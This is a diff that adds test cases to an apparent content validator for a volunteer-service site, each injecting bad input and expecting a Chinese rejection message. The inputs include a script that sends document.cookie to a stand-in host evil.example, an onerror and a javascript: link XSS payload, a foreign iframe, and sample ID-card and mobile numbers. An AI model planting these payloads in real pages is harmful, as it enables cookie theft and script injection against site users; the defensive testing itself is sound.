@@ -709,6 +709,39 @@ def _(p):
     return 2
 
 
+# --- script injection and personal data (see also test_sanitize.py) --------------------------------------
+
+
+@case("script-in-story-body", EXEMPLAR, "不允许使用 <script> 标签")
+def _(p):
+    return append(p, EXEMPLAR, "\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n") + 1
+
+
+@case("event-handler-in-station-description", STATION, "不允许使用事件属性 onerror=")
+def _(p):
+    return append(p, STATION, "description: '<img src=x onerror=alert(1)>'\n")
+
+
+@case("javascript-link-in-activity-body", CAMPAIGN, "不允许的链接地址“javascript:”")
+def _(p):
+    return replace_line(p, CAMPAIGN, "body: 每周六固定为志愿服务日。", "    body: '[报名](javascript:alert(1))'")
+
+
+@case("iframe-from-an-unlisted-host", EXEMPLAR, "不允许的 <iframe>")
+def _(p):
+    return append(p, EXEMPLAR, "\n<iframe src=\"https://evil.example/\"></iframe>\n") + 1
+
+
+@case("id-card-number-in-a-story", EXEMPLAR, "疑似居民身份证号码")
+def _(p):
+    return append(p, EXEMPLAR, "\n她的身份证号是 11010519491231002X。\n") + 1
+
+
+@case("personal-mobile-in-a-contact", CAMPAIGN, "疑似个人手机号码“139****5678”")
+def _(p):
+    return replace_line(p, CAMPAIGN, 'phone: "0000-0000000"', '    phone: "13912345678"')
+
+
 # --- the harness ----------------------------------------------------------------------------------------
 
 
